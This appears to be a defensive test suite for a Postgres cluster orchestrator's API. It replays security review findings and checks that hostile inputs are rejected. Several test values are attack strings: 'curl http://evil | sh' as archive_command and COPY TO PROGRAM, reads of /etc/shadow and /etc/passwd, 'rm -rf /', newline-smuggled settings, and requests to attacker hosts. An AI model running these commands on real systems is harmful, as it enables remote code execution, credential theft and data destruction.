// The attack suite (issue 16, first part): each finding of the security review that this step fixes, replayed
// against the API in process. Every test here failed on the code before the fix (d94ebb1). The fuzz run is in
// attacks.fuzz.test.ts; the replication schema's ownership at database creation in
// packages/orchestrator/src/database-setup.test.ts. Findings 1 and 2 (authentication, join tokens; at the end) failed
// on 96f6b99, each for the reason it names (a stolen create answered 200, the key-derived token handed the cluster
// key out); client certificates over real TLS are in test/tls.test.ts.
import { createHmac } from 'node:crypto'
import { join } from 'node:path'
import * as A from '@automerge/automerge'
import { ClusterKey } from '@pgmesh/mesh'
import { DOCUMENT_FORMAT_HEADER } from '@pgmesh/model'
import { DOCUMENT_FORMAT } from '@pgmesh/state'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ApiFixture, type CallResult, requestApp, startApiFixture } from './api.fixture.js'
import { type App, createApp } from './app.js'
import { apiComponents } from './components.js'

/** What a joining host of this version sends with its join calls. */
const CURRENT_FORMAT = { [DOCUMENT_FORMAT_HEADER]: String(DOCUMENT_FORMAT) }

let api: ApiFixture
const PASSWORD = 'attack-suite-password-7f3a'

const spec = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  database_name: 'app',
  database_users: [{ username: 'admin', password: PASSWORD, db_owner: true, attributes: ['LOGIN'] }],
  nodes: [{ name: 'n1', host_ids: ['host-1'] }],
  ...extra
})

let next = 0
const create = async (extra: Record<string, unknown>): Promise<CallResult> =>
  await api.call('POST', '/v1/databases', { id: `attack-${next++}`, spec: spec(extra) })

/** A client error in the anchor's shape: 4xx, exactly `{name, message}`, no secret, no internal text. */
function expectClientError (res: CallResult, status: number, message?: RegExp | string): void {
  expect(res.status, res.text.slice(0, 500)).toBe(status)
  expect(Object.keys(res.json as object).sort()).toEqual(['message', 'name'])
  expect(typeof res.json.name).toBe('string')
  expect(typeof res.json.message).toBe('string')
  expect(res.text).not.toContain(PASSWORD)
  expect(res.text).not.toMatch(/at .*\.(js|ts):\d+|TypeError|RangeError|Automerge|stack/)
  if (message !== undefined) expect(res.json.message).toMatch(message)
}

beforeAll(async () => {
  api = await startApiFixture({ clusterId: 'attacks' })
})

afterAll(async () => {
  await api.stop()
})

describe('finding 4: a spec cannot run code', () => {
  it.each([
    ['archive_command', 'curl http://evil | sh'],
    ['restore_command', 'cp /etc/shadow %p'],
    ['archive_cleanup_command', 'rm -rf /'],
    ['recovery_end_command', 'id'],
    ['ssl_passphrase_command', 'sh -c id'],
    ['archive_library', 'evil'],
    ['local_preload_libraries', 'evil'],
    ['session_preload_libraries', '/tmp/evil.so'],
    ['dynamic_library_path', '/tmp'],
    ['include', '/etc/passwd'],
    ['include_dir', '/tmp'],
    ['include_if_exists', '/tmp/x.conf'],
    ['ssl_key_file', '/etc/shadow'],
    ['log_directory', '/var/lib/pgmesh'],
    ['Archive_Command', 'id']
  ])('rejects postgresql_conf %s, at the database and at a node', async (key, value) => {
    expectClientError(await create({ postgresql_conf: { [key]: value } }), 400, `postgresql_conf[${key}]: `)
    const node = await create({ nodes: [{ name: 'n1', host_ids: ['host-1'], postgresql_conf: { [key]: value } }] })
    expectClientError(node, 400, `nodes[0].postgresql_conf[${key}]: `)
  })

  it('allows only known libraries in shared_preload_libraries, and still requires the replication one', async () => {
    expectClientError(await create({ postgresql_conf: { shared_preload_libraries: 'pglogical,/tmp/evil.so' } }), 400, /shared_preload_libraries\]: .*evil/)
    expectClientError(await create({ postgresql_conf: { shared_preload_libraries: 'pg_stat_statements' } }), 400, /"spock" must be included/)
    expect((await create({ postgresql_conf: { shared_preload_libraries: 'pg_stat_statements,spock' } })).status).toBe(200)
  })

  it('rejects scripts that reach the server OS or its files, and more than one statement per entry', async () => {
    for (const statement of [
      "COPY (SELECT 1) TO PROGRAM 'curl http://evil | sh'",
      "copy t from program 'id'",
      "SELECT lo_import('/etc/shadow')",
      "SELECT pg_read_file('/etc/passwd')",
      "ALTER SYSTEM SET archive_command = 'id'",
      "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C",
      'CREATE EXTENSION plpython3u',
      "SELECT 1; COPY (SELECT 1) TO PROGRAM 'id'"
    ]) {
      expectClientError(await create({ scripts: { post_init: ['CREATE ROLE app_rw', statement] } }), 400, /^scripts\.post_init\[1\]: /)
    }
    expect((await create({ scripts: { post_database_create: ["CREATE TABLE t (id int PRIMARY KEY, note text DEFAULT 'a; b')", 'INSERT INTO t VALUES (1)'] } })).status).toBe(200)
  })

  it('rejects pg_hba rules that trust the network or include files', async () => {
    expectClientError(await create({ pg_hba_conf: ['host all all 0.0.0.0/0 trust'] }), 400, /^pg_hba_conf\[0\]: .*trust/)
    expectClientError(await create({ pg_hba_conf: ['hostssl all all ::/0 ident'] }), 400, /^pg_hba_conf\[0\]: /)
    expectClientError(await create({ pg_hba_conf: ['include /etc/passwd'] }), 400, /^pg_hba_conf\[0\]: /)
    expectClientError(await create({ pg_hba_conf: ['host all @/etc/passwd 10.0.0.0/8 scram-sha-256'] }), 400, /^pg_hba_conf\[0\]: /)
    expectClientError(await create({ pg_hba_conf: ['host all all 10.0.0.0/99 scram-sha-256'] }), 400, /^pg_hba_conf\[0\]: .*address/)
    expectClientError(await create({ pg_ident_conf: ['include_dir /etc'] }), 400, /^pg_ident_conf\[0\]: /)
    expect((await create({ pg_hba_conf: ['host all all 10.0.0.0/8 scram-sha-256', 'local all all peer'] })).status).toBe(200)
  })

  it('rejects an image reference that is not one', async () => {
    expectClientError(await create({ orchestrator_opts: { swarm: { image: 'pgmesh/postgres:15 --privileged' } } }), 400, /^orchestrator_opts\.swarm\.image: /)
    expect((await create({ orchestrator_opts: { swarm: { image: 'pgmesh/postgres:15' } } })).status).toBe(200)
  })
})

describe('finding 8: what would fail late is rejected at the API', () => {
  it.each([
    ['a newline in a setting value', { postgresql_conf: { work_mem: "4MB'\narchive_command = 'id" } }, /^postgresql_conf\[work_mem\]: /],
    ['a newline in a setting name', { postgresql_conf: { 'work_mem\narchive_command': 'id' } }, /^postgresql_conf\[/],
    ['an object as a setting value', { postgresql_conf: { work_mem: { a: 1 } } }, /^postgresql_conf\[work_mem\]: /],
    ['an orchestrator-owned setting: port', { postgresql_conf: { port: 5999 } }, /^postgresql_conf\[port\]: .*orchestrator/],
    ['an orchestrator-owned setting: data_directory', { postgresql_conf: { data_directory: '/' } }, /^postgresql_conf\[data_directory\]: /],
    ['an orchestrator-owned setting: listen_addresses', { postgresql_conf: { listen_addresses: '*' } }, /^postgresql_conf\[listen_addresses\]: /],
    ['NUL in the database name', { database_name: 'a\u0000b' }, /^database_name: /],
    ['a user named pgmesh', { database_users: [{ username: 'pgmesh', attributes: ['NOLOGIN'] }] }, /^database_users\[0\]\.username: /],
    ['a user named pg_*', { database_users: [{ username: 'pg_monitor' }] }, /^database_users\[0\]\.username: /],
    ['a username over 63 bytes', { database_users: [{ username: 'é'.repeat(32) }] }, /^database_users\[0\]\.username: .*63/],
    ['NUL in a username', { database_users: [{ username: 'a\u0000b' }] }, /^database_users\[0\]\.username: /],
    ['a role that runs programs', { database_users: [{ username: 'u', roles: ['pg_execute_server_program'] }] }, /^database_users\[0\]\.roles\[0\]: /],
    ['a role that reads server files', { database_users: [{ username: 'u', roles: ['pg_read_server_files'] }] }, /^database_users\[0\]\.roles\[0\]: /],
    ['membership in the system superuser', { database_users: [{ username: 'u', roles: ['pgmesh'] }] }, /^database_users\[0\]\.roles\[0\]: /],
    ['absurd cpus', { cpus: '99999999999999' }, /^cpus: /],
        ['a huge node number', { nodes: [{ name: 'n99999999999999999999', host_ids: ['host-1'] }] }, /^nodes\[0\]\.name: /]
  ])('rejects %s', async (_what, extra, message) => {
    expectClientError(await create(extra), 400, message)
  })
})

describe('finding 6: limits', () => {
  it('answers 413 in the anchor shape to a body over 1 MiB, without reading it whole', async () => {
    const huge = JSON.stringify({ id: 'big', spec: spec({ database_users: [{ username: 'x'.repeat(2 * 1024 * 1024) }] }) })
    const res = await api.app.request('/v1/databases', { method: 'POST', body: huge, headers: { 'content-type': 'application/json' } })
    const text = await res.text()
    expectClientError({ status: res.status, json: JSON.parse(text), text, headers: res.headers }, 413, /1048576 bytes/)
  })

  it('limits string lengths and counts as the anchor schema does (and bounds what it leaves open)', async () => {
    expectClientError(await create({ database_users: [{ username: 'u'.repeat(100_000) }] }), 400, /^database_users\[0\]\.username: /)
    expectClientError(await create({ pg_hba_conf: ['host all all 10.0.0.0/8 ' + 'x'.repeat(5000)] }), 400, /^pg_hba_conf\[0\]: must be at most/)
    expectClientError(await create({ pg_hba_conf: Array.from({ length: 5000 }, () => 'local all all peer') }), 400, /^pg_hba_conf: must have at most/)
    expectClientError(await create({ postgresql_conf: { work_mem: 'x'.repeat(100_000) } }), 400, /^postgresql_conf\[work_mem\]: /)
    expectClientError(await create({ nodes: [{ name: 'n1', host_ids: Array.from({ length: 100 }, () => 'host-1') }] }), 400, /^nodes\[0\]\.host_ids: must have at most/)
    expectClientError(await create({ orchestrator_opts: { swarm: { extra_labels: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`l${i}`, 'v'])) } } }), 400, /extra_labels: must have at most/)
    // A failed create leaves nothing behind.
    expect((await api.call('GET', `/v1/databases/attack-${next - 1}`)).status).toBe(404)
  })
})

describe('finding 9: client errors are 4xx in the anchor shape, never 500 with internal text', () => {
  it('answers a wrong Content-Type with 415', async () => {
    const res = await api.app.request('/v1/databases', { method: 'POST', body: JSON.stringify({ spec: spec() }), headers: { 'content-type': 'text/plain' } })
    const text = await res.text()
    expectClientError({ status: res.status, json: JSON.parse(text), text, headers: res.headers }, 415)
  })

  it('answers JSON nested 3,000 deep with 400, not a stack overflow', async () => {
    const deep = '['.repeat(3000) + ']'.repeat(3000)
    const body = `{"id":"deep","spec":{"database_name":"app","nodes":[{"name":"n1","host_ids":["host-1"]}],"services":[{"service_id":"s","service_type":"mcp","version":"1.0","host_ids":["host-1"],"connect_as":"a","config":{"x":${deep}}}]}}`
    const res = await api.call('POST', '/v1/databases', body)
    expectClientError(res, 400, /nest/)
  })

  it('answers a body that is not JSON with decode_payload, and a non-object body with invalid_input', async () => {
    expectClientError(await api.call('POST', '/v1/databases', '{"spec": '), 400)
    expectClientError(await api.call('POST', '/v1/databases', '[]'), 400)
    expectClientError(await api.call('POST', '/v1/databases', 'null'), 400)
  })

  it('answers a 400 KB username with 400, not an Automerge error', async () => {
    expectClientError(await create({ database_users: [{ username: 'x'.repeat(400_000), password: PASSWORD }] }), 400, /^database_users\[0\]\.username: must be at most/)
  })

  it('keeps an echoed map key short and on one line', async () => {
    const res = await create({ postgresql_conf: { [`${'k'.repeat(10_000)}\nx`]: 1 } })
    expectClientError(res, 400)
    expect((res.json.message as string).split('\n')).toHaveLength(1)
    expect(res.json.message.length).toBeLessThan(400)
  })
})

describe('finding 10: /metrics is cheap', () => {
  it('a scrape with 4,000 databases costs far less than one save of the document', { timeout: 120_000 }, async () => {
    // 4,000 databases: one created through the API, copied in one change (thousands of creates take minutes here).
    // Not 1,000: with strings stored as scalars a save of 1,000 takes ~7 ms, too close to a scrape's ~2 to tell apart.
    expect((await api.call('POST', '/v1/databases', { id: 'seed', spec: spec() })).status).toBe(200)
    const seed = JSON.parse(JSON.stringify(api.host.state.doc.databases?.seed)) as unknown
    await api.host.state.change({ op: 'test.bulk', entity: 'bulk' }, d => {
      for (let i = 0; i < 4000; i++) (d.databases as Record<string, unknown>)[`bulk-${i}`] = JSON.parse(JSON.stringify(seed)) as unknown
    })
    const scrape = async (): Promise<number> => {
      const started = performance.now()
      const res = await api.app.request('/metrics')
      expect(await res.text()).toMatch(/^pgmesh_document_bytes [1-9]\d*$/m)
      return performance.now() - started
    }
    const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)] ?? 0
    await scrape()
    const scrapes: number[] = []
    const saves: number[] = []
    for (let i = 0; i < 7; i++) {
      scrapes.push(await scrape())
      const started = performance.now()
      A.save(api.host.state.automergeDoc)
      saves.push(performance.now() - started)
    }
    console.log(`/metrics with 4,000 databases: scrape median ${median(scrapes).toFixed(2)} ms, Automerge.save median ${median(saves).toFixed(2)} ms`)
    // The fastest scrape: a pause of the machine's (shared, busy) cores can slow any one of them.
    expect(Math.min(...scrapes)).toBeLessThan(median(saves) / 4)
  })
})

/** A request as an attacker on the network sends it: no certificate, no token, any Host and headers. */
async function attack (app: App, method: string, url: string, headers: Record<string, string> = {}, body?: unknown): Promise<CallResult> {
  return await requestApp(app, method, url, body, headers)
}

describe('finding 1: no authentication', () => {
  // The fixture's host as it answers on a network address: over TLS, where an identity is required.
  const tlsApp = (): App => createApp(apiComponents(api.host), { logger: pino({ level: 'silent' }), auth: { mode: 'tls' } })

  it('refuses every change from a client without an identity (401 in the anchor shape)', async () => {
    const app = tlsApp()
    for (const [method, path, body] of [
      ['POST', '/v1/databases', { id: 'stolen', spec: spec() }],
      ['DELETE', '/v1/hosts/host-1?force=true', undefined],
      ['POST', '/v1/databases/attack-0/switchover', { candidate_instance_id: 'x' }],
      ['POST', '/v1/databases/attack-0/failover', {}],
      ['DELETE', '/v1/databases/attack-0', undefined],
      ['POST', '/v1/cluster/join', { token: 'x', server_urls: ['http://attacker.example'] }]
    ] as const) {
      const res = await attack(app, method, `http://10.0.0.1:3000${path}`, {}, body)
      expectClientError(res, 401)
      expect(res.json.name, `${method} ${path}`).toBe('unauthorized')
    }
    expect(api.host.state.doc.databases?.stolen).toBeUndefined()
  })

  it('refuses a foreign Host on the loopback API (DNS rebinding)', async () => {
    expectClientError(await attack(api.app, 'GET', 'http://rebind.attacker.example:3000/v1/cluster/join-token'), 403)
    expectClientError(await attack(api.app, 'POST', 'http://rebind.attacker.example:3000/v1/databases', {}, { id: 'rebound', spec: spec() }), 403)
  })

  it('refuses a browser\'s cross-site request (the CSRF on GET /v1/cluster/init)', async () => {
    const fresh = await startApiFixture()
    try {
      const res = await attack(fresh.app, 'GET', 'http://localhost:3000/v1/cluster/init', { 'sec-fetch-site': 'cross-site', origin: 'https://attacker.example' })
      expectClientError(res, 403)
      expect(fresh.host.state.initialized).toBe(false)
    } finally {
      await fresh.stop()
    }
  })

  it('lets no one on the network claim a fresh host, nor make it call any URL', async () => {
    const fresh = await startApiFixture()
    try {
      // auto TLS before init: only loopback clients (no socket here is one) may init or join.
      const app = createApp(apiComponents(fresh.host), { logger: pino({ level: 'silent' }), auth: { mode: 'tls', bootstrapping: () => true } })
      expectClientError(await attack(app, 'GET', 'http://10.0.0.2:3000/v1/cluster/init'), 401)
      expectClientError(await attack(app, 'POST', 'http://10.0.0.2:3000/v1/cluster/join', {}, { token: `PGEDGE-${'a'.repeat(64)}-${'b'.repeat(32)}`, server_urls: ['http://169.254.169.254/latest'] }), 401)
      expect(fresh.host.state.initialized).toBe(false)
    } finally {
      await fresh.stop()
    }
  })
})

describe('finding 2: the cluster key handed to anyone', () => {
  it('gives the join token only to an identity', async () => {
    const app = createApp(apiComponents(api.host), { logger: pino({ level: 'silent' }), auth: { mode: 'tls' } })
    expectClientError(await attack(app, 'GET', 'http://10.0.0.1:3000/v1/cluster/join-token'), 401)
    expectClientError(await attack(app, 'GET', 'http://10.0.0.1:3000/v1/cluster/join-tokens'), 401)
  })

  it('no longer accepts the token derived from the cluster key, which a removed host could recompute', async () => {
    const key = await ClusterKey.load(join(api.dir, 'cluster.key'))
    // The token as pgmesh used to derive it: the key's fingerprint and an HMAC of the key, constant for life.
    const derived = `PGEDGE-${key.fingerprint()}-${createHmac('sha256', key.secret).update('pgmesh join token v1').digest('hex').slice(0, 32)}`
    const res = await api.call('POST', '/v1/internal/cluster/join-options', { token: derived, host_id: 'foreign' }, CURRENT_FORMAT)
    expectClientError(res, 401)
    expect(res.text).not.toContain(key.toString().trim().split('\n').at(-1))
  })

  it('revokes outstanding join tokens on request and when a host is removed', async () => {
    const options = async (token: string): Promise<number> => (await api.call('POST', '/v1/internal/cluster/join-options', { token, host_id: 'foreign' }, CURRENT_FORMAT)).status
    const first = (await api.call('GET', '/v1/cluster/join-token')).json.token as string
    expect(await options(first)).toBe(200)
    expect((await api.call('DELETE', '/v1/cluster/join-tokens')).status).toBe(200)
    expect(await options(first)).toBe(401)
    const second = (await api.call('GET', '/v1/cluster/join-token')).json.token as string
    await api.host.state.change({ op: 'test.host', entity: 'host-2' }, (d) => {
      d.hosts['host-2'] = { ...JSON.parse(JSON.stringify(d.hosts['host-1'])), id: 'host-2', peer_id: '12D3KooWKP6nxopy5Lpt6igYppo8p6qvCpr6gfSH2zuJVhbQABRx' }
    })
    expect((await api.call('DELETE', '/v1/hosts/host-2?force=true')).status).toBe(200)
    expect(await options(second)).toBe(401)
  })

  it('expires join tokens', async () => {
    const token = (await api.call('GET', '/v1/cluster/join-token?ttl=1s')).json.token as string
    await new Promise(resolve => setTimeout(resolve, 2100))
    expectClientError(await api.call('POST', '/v1/internal/cluster/join-options', { token, host_id: 'foreign' }, CURRENT_FORMAT), 401)
  })
})
